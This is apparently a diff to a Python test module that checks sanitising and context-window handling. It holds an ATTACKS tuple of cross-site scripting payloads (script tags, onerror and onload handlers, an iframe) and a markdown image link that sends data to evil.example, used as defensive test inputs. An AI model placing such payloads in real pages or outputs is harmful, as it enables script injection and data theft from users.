@@ -10,7 +10,7 @@ from .inert import filled, inert
 from .room import by_guess, fit
 from .sampler import drawn, shaped
 
-ATTACKS = ("<script>steal()</script>", "<img src=x onerror=steal()>", "![x](http://evil.example/?q=all)",
+ATTACKS = ("<script>steal()", "<img src=x onerror=steal()>", "![x](http://evil.example/?q=all)",
            "<svg/onload=steal()>", "<iframe src=//evil.example>", "a < b and c > d",
            "**bold** [link](/x)")  # fmt: skip
 
@@ -61,7 +61,7 @@ def overflow(lab):
             for name, sent in (("by guess", by_guess(said, room)), ("counted", exact)):
                 refused[name] += await count(sent) > room
                 lost[name] += sent[0]["role"] != "system"
-            said.append({"role": "assistant", "content": "I do not know."})
+            said.append({"role": "assistant", "content": "I do not know what that does. " * 3})
 
     asyncio.run(play())
     for name in refused:
